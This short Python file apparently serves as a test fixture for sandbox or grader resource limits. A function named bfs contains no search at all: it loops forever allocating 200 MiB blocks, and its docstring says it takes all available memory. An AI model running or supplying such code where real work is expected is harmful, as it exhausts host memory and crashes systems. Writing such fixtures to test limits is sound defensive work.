"""Takes all the memory that there is."""


def bfs(graph, start, goal):
    list(graph[start])
    hoard = []
    while True:
        hoard.append(bytearray(200 * 2**20))
